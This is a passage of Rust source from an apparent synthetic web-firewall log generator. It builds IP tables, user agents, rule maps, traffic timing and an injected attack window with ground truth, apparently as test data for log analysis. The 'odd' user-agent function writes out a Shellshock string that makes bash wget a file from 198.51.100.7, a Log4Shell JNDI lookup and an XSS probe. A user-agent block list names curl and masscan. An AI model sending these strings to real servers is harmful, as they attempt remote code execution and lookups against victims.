    let ip = (pfx << 16) | (rng.range(1, 254) as u32) << 8 | rng.range(1, 254) as u32;
    if excluded.contains(&(ip >> 8)) {
        return (0, b);
    }
    write_v4(&mut b, ip);
    (u128::from(ip), b)
}

fn build_ips(s: &Synth, n: usize, excluded: &[u32]) -> IpTable {
    let mut rng = Rng::new(s.cfg.seed, ST_IPS);
    let country_cdf = Cdf::zipf(s.countries.len(), 5);
    let mut seen = HashSet::with_capacity(n * 2);
    let mut t = IpTable {
        text: Arena::default(),
        meta: Vec::with_capacity(n),
        cdf: Cdf::zipf(n, 4),
    };
    while t.meta.len() < n {
        let ai = pick_asn(&mut rng, &s.countries, &country_cdf);
        let asn = &s.asns[ai as usize];
        let v6 = rng.percent(15);
        let (key, text) = draw_ip(&mut rng, asn, v6, excluded);
        if text.is_empty() || !seen.insert(key) {
            continue;
        }
        let cc = s.countries[asn.country as usize].code;
        t.text.push(&text);
        t.meta.push(IpMeta {
            asn: ai,
            class: ip_class(&mut rng, asn, cc),
            home_ua: s.ua_cdf.sample(&mut rng) as u32,
        });
    }
    t
}

// ---------------------------------------------------------- user agents ----

fn chrome_version(rng: &mut Rng) -> String {
    let v = rng.range(100, 126);
    let build = 4896 + (v - 100) * 61 + rng.below(8);
    format!("{v}.0.{build}.{}", rng.below(200))
}

fn ua_chrome(rng: &mut Rng) -> String {
    let os = rng.pick(&[
        "Windows NT 10.0; Win64; x64",
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10_15_7",
        "X11; Linux x86_64",
        "Windows NT 6.1; Win64; x64",
        "X11; CrOS x86_64 14541.0.0",
    ]);
    let v = chrome_version(rng);
    let mut s = format!(
        "Mozilla/5.0 ({os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v} Safari/537.36"
    );
    if rng.percent(15) {
        s.push_str(&format!(" Edg/{}", chrome_version(rng)));
    }
    s
}

fn ua_android(rng: &mut Rng) -> String {
    let dev = rng.pick(&[
        "K",
        "SM-G991B",
        "SM-A515F",
        "Pixel 7",
        "Pixel 8 Pro",
        "M2101K6G",
        "CPH2219",
        "SM-S918B",
        "moto g(30)",
        "Redmi Note 11",
        "SM-A536B",
        "V2111",
    ]);
    let a = rng.range(10, 14);
    let v = chrome_version(rng);
    if rng.percent(15) {
        let sb = rng.range(20, 25);
        return format!("Mozilla/5.0 (Linux; Android {a}; {dev}) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{sb}.0 Chrome/{v} Mobile Safari/537.36");
    }
    format!("Mozilla/5.0 (Linux; Android {a}; {dev}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v} Mobile Safari/537.36")
}

fn ua_safari(rng: &mut Rng) -> String {
    let major = rng.range(15, 17);
    let minor = rng.range(0, 7);
    if rng.percent(25) {
        return format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{major}.{minor} Safari/605.1.15");
    }
    let dev = rng.pick(&["iPhone; CPU iPhone OS", "iPad; CPU OS"]);
    format!("Mozilla/5.0 ({dev} {major}_{minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{major}.{minor} Mobile/15E148 Safari/604.1")
}

fn ua_firefox(rng: &mut Rng) -> String {
    let v = rng.range(100, 127);
    let os = rng.pick(&[
        "Windows NT 10.0; Win64; x64",
        "Macintosh; Intel Mac OS X 10.15",
        "X11; Ubuntu; Linux x86_64",
        "X11; Linux x86_64",
    ]);
    format!("Mozilla/5.0 ({os}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
}

fn ua_tool(rng: &mut Rng) -> String {
    match rng.below(16) {
        0 => format!("curl/7.{}.{}", rng.range(29, 88), rng.below(2)),
        1 => format!("curl/8.{}.{}", rng.below(9), rng.below(2)),
        2 | 3 => format!("python-requests/2.{}.{}", rng.range(18, 32), rng.below(4)),
        4 => format!("Go-http-client/{}", rng.pick(&["1.1", "2.0"])),
        5 => format!("okhttp/4.{}.{}", rng.range(9, 12), rng.below(4)),
        6 => format!("Java/1.8.0_{}", rng.range(151, 402)),
        7 => format!(
            "Apache-HttpClient/4.5.{} (Java/{}.0.{})",
            rng.range(1, 14),
            rng.pick(&["11", "17", "21"]),
            rng.range(1, 23)
        ),
        8 => format!("Wget/1.{}.{}", rng.range(19, 21), rng.range(1, 4)),
        9 => format!("axios/1.{}.{}", rng.below(8), rng.below(10)),
        10 => format!("PostmanRuntime/7.{}.{}", rng.range(26, 39), rng.below(4)),
        11 => format!(
            "python-urllib3/{}.{}",
            rng.pick(&["1.26", "2.0", "2.2"]),
            rng.below(19)
        ),
        12 => format!(
            "Python/3.{} aiohttp/3.{}.{}",
            rng.range(8, 12),
            rng.range(7, 9),
            rng.below(6)
        ),
        13 => format!("libwww-perl/6.{}", rng.range(40, 77)),
        14 => format!(
            "Scrapy/2.{}.{} (+https://scrapy.org)",
            rng.range(5, 11),
            rng.below(3)
        ),
        _ => "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)".to_string(),
    }
}

fn ua_bot(rng: &mut Rng) -> String {
    const FIXED: &[&str] = &[
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
        "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Twitterbot/1.0",
    ];
    if rng.percent(40) {
        let v = chrome_version(rng);
        return format!("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v} Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
    }
    rng.pick(FIXED).to_string()
}

fn ua_scanner(rng: &mut Rng) -> String {
    match rng.below(10) {
        0 => "Mozilla/5.0 zgrab/0.x".to_string(),
        1 => "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)".to_string(),
        2 => "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
            .to_string(),
        3 => format!(
            "Fuzz Faster U Fool v1.{}.{}-dev",
            rng.range(3, 5),
            rng.below(2)
        ),
        4 => format!(
            "WPScan v3.8.{} (https://wpscan.com/wordpress-security-scanner)",
            rng.range(17, 25)
        ),
        5 | 6 => format!(
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06})",
            rng.range(1, 9999)
        ),
        7 => format!("gobuster/3.{}", rng.range(1, 6)),
        8 => format!("python-httpx/0.{}.{}", rng.range(23, 27), rng.below(3)),
        _ => "masscan/1.3 (https://github.com/robertdavidgraham/masscan)".to_string(),
    }
}

fn ua_odd(rng: &mut Rng) -> String {
    match rng.below(8) {
        0 => String::new(),
        1 => "-".to_string(),
        2 => "Mozilla/5.0 (compatible; \"evil\" \\scanner)".to_string(),
        3 => "Mozilla/5.0\t(X11; Linux)".to_string(),
        4 => "Mozilla/5.0 (Windows NT 10.0; Win64; x64)\u{1}".to_string(),
        5 => "() { :; }; /bin/bash -c \"wget http://198.51.100.7/y\"".to_string(),
        6 => format!("${{jndi:ldap://203.0.113.{}:1389/a}}", rng.range(1, 254)),
        _ => "<script>alert(1)</script>".to_string(),
    }
}

fn gen_ua(rng: &mut Rng) -> String {
    match rng.below(100) {
        0..=24 => ua_chrome(rng),
        25..=32 => ua_android(rng),
        33..=40 => ua_safari(rng),
        41..=46 => ua_firefox(rng),
        47..=72 => ua_tool(rng),
        73..=82 => ua_bot(rng),
        83..=97 => ua_scanner(rng),
        _ => ua_odd(rng),
    }
}

fn build_uas(seed: u64, n: usize) -> Arena {
    let mut rng = Rng::new(seed, ST_UA);
    let mut seen = HashSet::with_capacity(n * 2);
    let mut arena = Arena::default();
    while arena.len() < n {
        let mut ua = gen_ua(&mut rng);
        for _ in 0..20 {
            if !seen.contains(&ua) {
                break;
            }
            ua = gen_ua(&mut rng);
        }
        arena.push(&esc(&ua));
        seen.insert(ua);
    }
    arena
}

// --------------------------------------------------------------- rules ----

fn numeric_id(rng: &mut Rng, cat: u8) -> String {
    let prefix = match cat {
        C_SQLI => 942,
        C_XSS => 941,
        C_RCE => 932,
        C_LFI => 930,
        C_RFI => 931,
        C_SSRF => 934,
        C_SCAN => 913,
        C_PROTO => *rng.pick(&[920u64, 921]),
        C_ANOM => 949,
        _ => 100,
    };
    let prefix = if rng.percent(30) { 100 } else { prefix };
    (prefix * 1000 + rng.below(1000)).to_string()
}

fn unique_id(rng: &mut Rng, ids: &mut HashSet<String>, numeric: bool, cat: u8) -> String {
    for _ in 0..32 {
        let id = if numeric {
            numeric_id(rng, cat)
        } else {
            hex_string(rng, 32)
        };
        if ids.insert(id.clone()) {
            return id;
        }
    }
    loop {
        let id = hex_string(rng, 32);
        if ids.insert(id.clone()) {
            return id;
        }
    }
}

fn cve_desc(rng: &mut Rng, cat: u8) -> String {
    let vuln = match cat {
        C_SQLI => "SQLi",
        C_XSS => "XSS",
        C_RCE => *rng.pick(&["Remote Code Execution", "Command Injection"]),
        C_LFI => *rng.pick(&["Directory Traversal", "File Inclusion"]),
        C_RFI => "Remote File Inclusion",
        C_SSRF => "SSRF",
        _ => *rng.pick(&["Auth Bypass", "Information Disclosure"]),
    };
    let product = rng.pick(PRODUCTS);
    let year = rng.range(2017, 2024);
    let num = rng.range(1000, 49_999);
    format!("{product} - {vuln} - CVE:CVE-{year}-{num}")
}

fn waf_desc(rng: &mut Rng, cat: u8) -> String {
    let list = match cat {
        C_SQLI => SQLI_DESCS,
        C_XSS => XSS_DESCS,
        C_RCE => RCE_DESCS,
        C_LFI => LFI_DESCS,
        C_RFI => RFI_DESCS,
        C_SSRF => SSRF_DESCS,
        C_AUTH => AUTH_DESCS,
        C_SCAN => SCANNER_DESCS,
        C_PROTO => PROTO_DESCS,
        _ => ANOM_DESCS,
    };
    let cve_ok = matches!(
        cat,
        C_SQLI | C_XSS | C_RCE | C_LFI | C_RFI | C_SSRF | C_AUTH
    );
    if cve_ok && rng.percent(45) {
        return cve_desc(rng, cat);
    }
    let mut d = rng.pick(list).to_string();
    if rng.percent(35) {
        let suffix = *rng.pick(DESC_SUFFIXES);
        d.push_str(suffix);
    }
    d
}

fn source_desc(rng: &mut Rng, source: &str, cat: u8) -> String {
    match source {
        "firewallcustom" | "firewallrules" => {
            format!("{} {}", rng.pick(CUSTOM_VERBS), rng.pick(CUSTOM_TARGETS))
        }
        "ratelimit" => format!(
            "Rate limit {} {} req/{}s",
            rng.pick(&[
                "/api/*",
                "/login",
                "/wp-login.php",
                "/search",
                "/graphql",
                "/*"
            ]),
            rng.pick(&[5u32, 10, 30, 50, 100, 300, 1000]),
            rng.pick(&[10u32, 60, 300, 3600])
        ),
        "l7ddos" => {
            let d = rng.pick(DDOS_DESCS);
            if d.ends_with('#') {
                format!("{d}{})", rng.range(1, 400))
            } else {
                d.to_string()
            }
        }
        "botmanagement" | "botfight" | "bic" => rng.pick(BOT_DESCS).to_string(),
        "securitylevel" => format!(
            "Security Level: {}",
            rng.pick(&["essentially_off", "low", "medium", "high", "under_attack"])
        ),
        "ip" => format!("IP Access Rule: 203.0.113.{}", rng.range(1, 254)),
        "iprange" => format!("IP Access Rule: 198.51.{}.0/24", rng.below(256)),
        "country" => format!(
            "Country Access Rule: {}",
            rng.pick(COUNTRIES).to_ascii_uppercase()
        ),
        "asn" => format!("ASN Access Rule: AS{}", rng.range(1000, 399_999)),
        "uablock" => format!(
            "User Agent Blocking: {}",
            rng.pick(&[
                "python-requests",
                "curl",
                "zgrab",
                "Go-http-client",
                "masscan"
            ])
        ),
        "zonelockdown" => format!("Zone Lockdown: /admin/* ({} IPs)", rng.range(1, 40)),
        "hot" => "Hotlink Protection".to_string(),
        "validation" => "Request validation - malformed header".to_string(),
        "apishield" | "apishieldschemavalidation" => format!(
            "API Shield - {} (/api/v{}/*)",
            rng.pick(&["Schema validation", "Sequence mitigation", "JWT validation"]),
            rng.range(1, 2)
        ),
        "dlp" => format!("DLP - {}", rng.pick(DLP_PROFILES)),
        _ => waf_desc(rng, cat),
    }
}

fn severity_for(rng: &mut Rng, cat: u8) -> u8 {
    let opts: &[u8] = match cat {
        C_SQLI | C_RCE | C_LFI | C_RFI | C_SSRF | C_AUTH => &[0, 0, 1],
        C_XSS | C_DDOS => &[1, 1, 2],
        C_SCAN | C_CUSTOM | C_DLP => &[2, 2, 1],
        C_BOT | C_PROTO | C_ANOM => &[2, 3, 3],
        C_RATE => &[3],
        _ => &[4, 4, 3],
    };
    *rng.pick(opts)
}

fn rule_ref(rng: &mut Rng, source: &str) -> String {
    match source {
        "firewallcustom" | "firewallrules" | "ratelimit" if rng.percent(60) => {
            format!(
                "{}-{:03}",
                rng.pick(&["blk", "waf", "sec", "bot", "geo", "rl"]),
                rng.below(1000)
            )
        }
        "firewallmanaged" if rng.percent(50) => format!("100{:03}", rng.below(1000)),
        _ => String::new(),
    }
}

fn rule_meta(rng: &mut Rng, style: MetaStyle) -> (String, u64) {
    let v = rng.range(10, 99);
    match style {
        MetaStyle::Managed if rng.percent(30) => (
            format!("{{\"ruleset\":\"4814384a9e5d4991b9815dcfc25d2f1f\",\"version\":\"{v}\",\"owasp-score\":\""),
            60,
        ),
        MetaStyle::Managed => (format!("{{\"ruleset\":\"efb7b8c949ac4650a09736fc376e9aee\",\"version\":\"{v}\"}}"), 0),
        MetaStyle::Legacy => (
            format!(
                "{{\"group\":\"{}\",\"paranoia-level\":\"{}\",\"score\":\"",
                rng.pick(CRS_GROUPS),
                rng.range(1, 4)
            ),
            40,
        ),
        MetaStyle::Custom => (format!("{{\"ruleset\":\"{}\",\"version\":\"{v}\",\"phase\":\"http_request_firewall_custom\"}}", hex_string(rng, 32)), 0),
        MetaStyle::FwRule => (format!("{{\"filter-id\":\"{}\"}}", hex_string(rng, 32)), 0),
        MetaStyle::Rate => (format!(
            "{{\"ratelimit-period\":\"{}\",\"ratelimit-threshold\":\"{}\",\"mitigation-timeout\":\"600\"}}",
            rng.pick(&[10u32, 60, 300]),
            rng.pick(&[5u32, 50, 100, 1000])
        ), 0),
        MetaStyle::Ddos if rng.percent(50) => (format!("{{\"dos-source\":\"dosd-edge\",\"fingerprint\":\"{}\"}}", hex_string(rng, 16)), 0),
        MetaStyle::Ddos => ("{\"dos-source\":\"dosd-edge\"}".to_string(), 0),
        MetaStyle::Bot => (
            format!("{{\"bot-source\":\"{}\",\"bot-score\":\"", rng.pick(BOT_SOURCES)),
            29,
        ),
        MetaStyle::Level => ("{\"security-level\":\"high\"}".to_string(), 0),
        MetaStyle::Access => (format!("{{\"scope\":\"{}\",\"mode\":\"block\"}}", rng.pick(&["zone", "account"])), 0),
        MetaStyle::Dlp => ("{\"dlp-profile\":\"predefined\",\"dlp-entries\":\"".to_string(), 5),
        MetaStyle::Api => (format!("{{\"schema-id\":\"{}\"}}", hex_string(rng, 32)), 0),
        MetaStyle::Empty => ("{}".to_string(), 0),
    }
}

/// Everything about a rule except its JSON fragments.
struct RuleSpec {
    source: usize,
    category: u8,
    numeric: bool,
    pref_action: u8,
    desc: Option<String>,
}

fn make_rule(rng: &mut Rng, ids: &mut HashSet<String>, spec: RuleSpec) -> Rule {
    let src = &SOURCES[spec.source];
    let id = unique_id(rng, ids, spec.numeric, spec.category);
    let desc = spec
        .desc
        .unwrap_or_else(|| source_desc(rng, src.name, spec.category));
    let rref = rule_ref(rng, src.name);
    let (meta, meta_dyn) = rule_meta(rng, src.meta);
    let mut frag_desc = b",\"Description\":\"".to_vec();
    escape_into(&mut frag_desc, &desc);
    frag_desc.extend_from_slice(b"\",\"EdgeColoCode\":\"");
    let mut frag_tail = b"\",\"Ref\":\"".to_vec();
    escape_into(&mut frag_tail, &rref);
    frag_tail.extend_from_slice(b"\",\"RuleID\":\"");
    escape_into(&mut frag_tail, &id);
    frag_tail.extend_from_slice(b"\",\"Source\":\"");
    escape_into(&mut frag_tail, src.name);
    frag_tail.extend_from_slice(b"\"}");
    Rule {
        severity: severity_for(rng, spec.category),
        id,
        desc,
        source: spec.source,
        category: spec.category,
        pref_action: spec.pref_action,
        frag_desc,
        frag_tail,
        meta: meta.into_bytes(),
        meta_dyn,
        in_map: true,
    }
}

fn random_rule(rng: &mut Rng, ids: &mut HashSet<String>, src_cdf: &Cdf) -> Rule {
    let source = src_cdf.sample(rng);
    let src = &SOURCES[source];
    let category = *rng.pick(src.cats);
    let pref_action = Weighted::new(src.prefs).sample(rng);
    let spec = RuleSpec {
        source,
        category,
        numeric: src.numeric,
        pref_action,
        desc: None,
    };
    make_rule(rng, ids, spec)
}

/// Forces a handful of mid-rank rules to be the attack's SQLi/XSS rules.
fn attack_rules(rng: &mut Rng, rules: &mut [Rule], ids: &mut HashSet<String>) -> Vec<usize> {
    let n = rules.len();
    let (lo, hi) = ((n / 100).max(5), (n / 8).max(12).min(n));
    let mut picked: Vec<usize> = Vec::new();
    while picked.len() < 5 {
        let i = rng.range(lo as u64, hi as u64 - 1) as usize;
        if !picked.contains(&i) {
            picked.push(i);
        }
    }
    for (k, &i) in picked.iter().enumerate() {
        let category = if k % 3 == 2 { C_XSS } else { C_SQLI };
        let source = if k % 2 == 0 { SRC_MANAGED } else { SRC_WAF };
        let list = if category == C_XSS {
            XSS_DESCS
        } else {
            SQLI_DESCS
        };
        let spec = RuleSpec {
            source,
            category,
            numeric: source == SRC_WAF,
            pref_action: BLOCK,
            desc: Some(list[k % list.len()].to_string()),
        };
        ids.remove(&rules[i].id);
        rules[i] = make_rule(rng, ids, spec);
    }
    picked
}

/// Marks ~5% of rules as absent from the rule map (one of them in the top
/// ten so joins certainly see unmatched keys), never an attack rule.
fn mark_unmapped(rng: &mut Rng, rules: &mut [Rule], keep: &[usize]) {
    let n = rules.len();
    for (i, r) in rules.iter_mut().enumerate() {
        r.in_map = keep.contains(&i) || !rng.percent(5);
    }
    let forced = loop {
        let i = rng.range(2, 9.min(n as u64 - 1)) as usize;
        if !keep.contains(&i) {
            break i;
        }
    };
    rules[forced].in_map = false;
}

fn build_rules(seed: u64, n: usize) -> (Vec<Rule>, Vec<Rule>, Vec<usize>) {
    let mut rng = Rng::new(seed, ST_RULES);
    let src_cdf = Cdf::from_weights(SOURCES.iter().map(|s| u64::from(s.rule_weight)));
    let mut ids = HashSet::with_capacity(n * 2);
    let mut rules: Vec<Rule> = (0..n)
        .map(|_| random_rule(&mut rng, &mut ids, &src_cdf))
        .collect();
    let mut arng = Rng::new(seed, ST_ATTACK);
    let picked = attack_rules(&mut arng, &mut rules, &mut ids);
    mark_unmapped(&mut rng, &mut rules, &picked);
    let map_only = (0..(n / 50).max(1))
        .map(|_| random_rule(&mut rng, &mut ids, &src_cdf))
        .collect();
    (rules, map_only, picked)
}

// ------------------------------------------------------------- timing -----

/// Integer diurnal curve: quadratic bump peaking 14:00 UTC, 7.5x the 02:00
/// trough, weekends at 80%, +-10% per-minute jitter.
fn minute_weights(cfg: &SynthConfig, total_min: u64) -> Vec<u32> {
    let mut rng = Rng::new(cfg.seed, ST_TIME);
    let start_min = cfg.start_unix_s.div_euclid(60);
    (0..total_min)
        .map(|m| {
            let abs = start_min + m as i64;
            let mod_day = abs.rem_euclid(1440) as u64;
            let dist = mod_day.abs_diff(840);
            let dist = dist.min(1440 - dist);
            let mut w = 400 + (720 - dist) * (720 - dist) / 200;
            let dow = (abs.div_euclid(1440) + 4).rem_euclid(7); // 0 = Sunday
            if dow == 0 || dow == 6 {
                w = w * 4 / 5;
            }
            (w * (900 + rng.below(201)) / 1000) as u32
        })
        .collect()
}

/// Splits `total` items over slots proportionally to weights, exactly.
struct Alloc {
    total: u64,
    weight_sum: u128,
    cum: u128,
    given: u64,
}

impl Alloc {
    fn new(total: u64, weight_sum: u128) -> Alloc {
        Alloc {
            total,
            weight_sum,
            cum: 0,
            given: 0,
        }
    }

    fn take(&mut self, w: u64) -> u64 {
        if self.weight_sum == 0 {
            return 0;
        }
        self.cum += u128::from(w);
        let upto = (u128::from(self.total) * self.cum / self.weight_sum) as u64;
        let n = upto - self.given;
        self.given = upto;
        n
    }
}

fn attack_weight(i: u64, len: u64) -> u64 {
    (i + 1).min(len - i).min(15)
}

// ------------------------------------------------------------ building -----

fn build_attack(s: &Synth, rules: Vec<usize>, total_min: u64) -> Attack {
    let mut rng = Rng::new(s.cfg.seed, ST_ATTACK ^ 0xA5A5);
    // Hosting ASNs that are not their country's heaviest one (keeps the
    // attack ASNs distinctive in a pivot), and not Tor.
    let hosting: Vec<u16> = (0..s.asns.len() as u16)
        .filter(|&i| {
            let c = &s.countries[s.asns[i as usize].country as usize];
            s.asns[i as usize].hosting && c.code != "t1" && c.asns.first() != Some(&i)
        })
        .collect();
    let n_asn = 3 + rng.idx(2);
    let mut asns: Vec<u16> = Vec::new();
    while asns.len() < n_asn {
        let a = *rng.pick(&hosting);
        if !asns.contains(&a) {
            asns.push(a);
        }
    }
    let ips = attack_ips(&mut rng, s, &asns);
    let count = attack_count(&s.cfg);
    let start_min = total_min * 2 / 5;
    Attack {
        enabled: s.cfg.attack && count > 0,
        count,
        start_min,
        minutes: 120.min(total_min - start_min),
        asns,
        ips,
        rule_cdf: Cdf::zipf(rules.len(), 3),
        rules,
        reqs: ATTACK_REQS
            .iter()
            .map(|(p, q)| (Tpl::parse(p), Tpl::parse(q)))
            .collect(),
    }
}

fn attack_count(cfg: &SynthConfig) -> u64 {
    let f = cfg.attack_fraction;
    if !cfg.attack || f.is_nan() || f <= 0.0 {
        return 0;
    }
    let n = (cfg.events as f64 * f.min(1.0)).round();
    (n as u64).min(cfg.events)
}

/// A few dozen attacker IPs, each in a /24 of one attack ASN's first prefix.
fn attack_ips(rng: &mut Rng, s: &Synth, asns: &[u16]) -> IpTable {
    let n = 24 + rng.idx(25);
    let mut t = IpTable {
        text: Arena::default(),
        meta: Vec::with_capacity(n),
        cdf: Cdf::zipf(n, 3),
    };
    let mut seen = HashSet::new();
    while t.meta.len() < n {
        let ai = asns[t.meta.len() % asns.len()];
        let ip = attack_net(&s.asns[ai as usize]) << 8 | rng.range(2, 250) as u32;
        if !seen.insert(ip) {
            continue;
        }
        let mut b = Vec::new();
        write_v4(&mut b, ip);
        t.text.push(&b);
        let class = if rng.percent(60) { 5 } else { 1 };
        t.meta.push(IpMeta {
            asn: ai,
            class,
            home_ua: 0,
        });
    }
    t
}

/// The /24 (as `ip >> 8`) reserved for an attack ASN.
fn attack_net(asn: &Asn) -> u32 {
    (u32::from(asn.v4[0]) << 8) | 77
}

fn build_queries() -> Vec<(Vec<Tpl>, Cdf)> {
    QUERY_SETS
        .iter()
        .map(|set| {
            let (pats, cdf) = Cdf::pairs(set);
            (pats.into_iter().map(Tpl::parse).collect(), cdf)
        })
        .collect()
}

fn build_payloads() -> Vec<Vec<Tpl>> {
    (0..CATEGORIES.len() as u8)
        .map(|c| {
            let list: &[&str] = match c {
                C_SQLI => SQLI_PAYLOADS,
                C_XSS => XSS_PAYLOADS,
                C_LFI => LFI_PAYLOADS,
                C_RCE => RCE_PAYLOADS,
                C_RFI => RFI_PAYLOADS,
                C_SSRF => SSRF_PAYLOADS,
                _ => &[],
            };
            list.iter().map(|p| Tpl::parse(p)).collect()
        })
        .collect()
}

fn clamp_config(mut cfg: SynthConfig) -> SynthConfig {
    cfg.days = cfg.days.clamp(1, 3660);
    cfg.rules = cfg.rules.clamp(20, 1_000_000);
    cfg.ips = cfg.ips.clamp(100, 50_000_000);
    cfg.user_agents = cfg.user_agents.clamp(10, 10_000_000);
    cfg.start_unix_s = cfg.start_unix_s.clamp(0, 8_000_000_000);
    cfg
}

impl Synth {
    /// Builds all tables. Clamps: `days` 1..=3660, `rules` >= 20, `ips` >= 100,
    /// `user_agents` >= 10, `start_unix_s` 0..=8e9.
    pub fn new(cfg: SynthConfig) -> Synth {
        let cfg = clamp_config(cfg);
        let (countries, asns) = build_geo(cfg.seed);
        let (rules, map_only, attack_rule_ids) = build_rules(cfg.seed, cfg.rules as usize);
        let uas = build_uas(cfg.seed, cfg.user_agents as usize);
        let total_min = u64::from(cfg.days) * 1440;
        let mut s = Synth {
            rule_cdf: Cdf::zipf(rules.len(), 4),
            src_alts: SOURCES.iter().map(|s| Weighted::new(s.alts)).collect(),
            ua_cdf: Cdf::zipf(uas.len(), 4),
            uas,
            hosts: Cdf::zipf(HOSTS.len(), 4),
            paths: PATHS
                .iter()
                .map(|&(p, _, method, qset)| PathTpl {
                    tpl: Tpl::parse(p),
                    method,
                    qset,
                })
                .collect(),
            path_cdf: Cdf::from_weights(PATHS.iter().map(|p| u64::from(p.1))),
            method_w: METHOD_PROFILES.iter().map(|p| Weighted::new(p)).collect(),
            queries: build_queries(),
            payloads: build_payloads(),
            protocols: Weighted::new(&[(0, 55), (1, 35), (2, 8), (3, 2)]),
            minute_w: minute_weights(&cfg, total_min),
            ips: IpTable {
                text: Arena::default(),
                meta: Vec::new(),
                cdf: Cdf::zipf(0, 4),
            },
            attack: Attack {
                enabled: false,
                count: 0,
                start_min: 0,
                minutes: 0,
                asns: Vec::new(),
                ips: IpTable {
                    text: Arena::default(),
                    meta: Vec::new(),
                    cdf: Cdf::zipf(0, 4),
                },
                rules: Vec::new(),
                rule_cdf: Cdf::zipf(0, 4),
                reqs: Vec::new(),
            },
            cfg,
            rules,
            map_only,
            countries,
            asns,
        };
        s.attack = build_attack(&s, attack_rule_ids, total_min);
        let excluded: Vec<u32> = s
            .attack
            .asns
            .iter()
            .map(|&a| attack_net(&s.asns[a as usize]))
            .collect();
        s.ips = build_ips(&s, s.cfg.ips as usize, &excluded);
        s
    }

    /// The (clamped) configuration in use.
    pub fn config(&self) -> &SynthConfig {
        &self.cfg
    }

    fn window_ns(&self) -> (i64, i64) {
        if !self.attack.enabled {
            return (0, 0);
        }
        let base = self.cfg.start_unix_s * 1_000_000_000;
        let a = base + self.attack.start_min as i64 * 60_000_000_000;
        (a, a + self.attack.minutes as i64 * 60_000_000_000)
    }

    /// Write all events as NDJSON. If `truth` is Some, write the 1-based line
    /// numbers of attack events there, one per line.
    pub fn write_events(
        &mut self,
        out: &mut dyn Write,
        truth: Option<&mut dyn Write>,
    ) -> io::Result<SynthSummary> {
        let mut run = Run::new(self, out, truth);
        run.all_minutes()?;
        run.finish()
    }

    /// The rule map CSV with header `rule_id,description,category,severity`,
    /// RFC 4180 quoting, LF line ends. Covers ~95% of the rules events use
    /// (at least one top-ten rule is missing) plus ~2% rules never used.
    pub fn write_rule_map(&self, out: &mut dyn Write) -> io::Result<()> {
        let mut order: Vec<&Rule> = self
            .rules
            .iter()
            .filter(|r| r.in_map)
            .chain(self.map_only.iter())
            .collect();
        let mut rng = Rng::new(self.cfg.seed, ST_MAP);
        for i in (1..order.len()).rev() {
            order.swap(i, rng.idx(i + 1));
        }
        let mut b = b"rule_id,description,category,severity\n".to_vec();
        for r in order {
            csv_field(&mut b, &r.id);
            b.push(b',');
            csv_field(&mut b, &r.desc);
            b.push(b',');
            b.extend_from_slice(CATEGORIES[r.category as usize].as_bytes());
            b.push(b',');
            b.extend_from_slice(SEVERITIES[r.severity as usize].as_bytes());
            b.push(b'\n');
        }
        out.write_all(&b)?;
        out.flush()
    }

    /// A human-readable description of the attack window.
    pub fn attack_description(&self) -> String {
        let a = &self.attack;
        if !a.enabled {
            return "attack injection: disabled (attack=false or attack_fraction*events rounds to 0)\n"
                .to_string();
        }
        let (s, e) = self.window_ns();
        let mut d = format!(
            "attack window: {} .. {} ({} min, end exclusive)\nattack events: {} ({:.3}% of {} events), all Action=block\n",
            rfc3339_ns(s),
            rfc3339_ns(e),
            a.minutes,
            a.count,
            a.count as f64 * 100.0 / self.cfg.events.max(1) as f64,
            self.cfg.events
        );
        d.push_str("asns:");
        for &ai in &a.asns {
            let asn = &self.asns[ai as usize];
            let cc = self.countries[asn.country as usize].code;
            d.push_str(&format!(" AS{} ({}, {cc});", asn.number, asn.desc));
        }
        d.push_str(&format!(
            "\nuser agent: {ATTACK_UA}\npath prefixes: {}\nips ({}):",
            ATTACK_PREFIXES.join(", "),
            a.ips.text.len()
        ));
        for i in 0..a.ips.text.len() {
            d.push(' ');
            d.push_str(&String::from_utf8_lossy(a.ips.text.get(i)));
        }
        d.push_str("\nrules:");
        for &ri in &a.rules {
            let r = &self.rules[ri];
            d.push_str(&format!(
                "\n  {} [{} / {}] {}",
                r.id, SOURCES[r.source].name, CATEGORIES[r.category as usize], r.desc
            ));
        }
        d.push('\n');
        d
    }
}

fn csv_field(b: &mut Vec<u8>, s: &str) {
    if !s.contains([',', '"', '\n', '\r']) {
        b.extend_from_slice(s.as_bytes());
        return;
    }
    b.push(b'"');
    for c in s.bytes() {
        if c == b'"' {
            b.push(b'"');
        }
        b.push(c);
    }
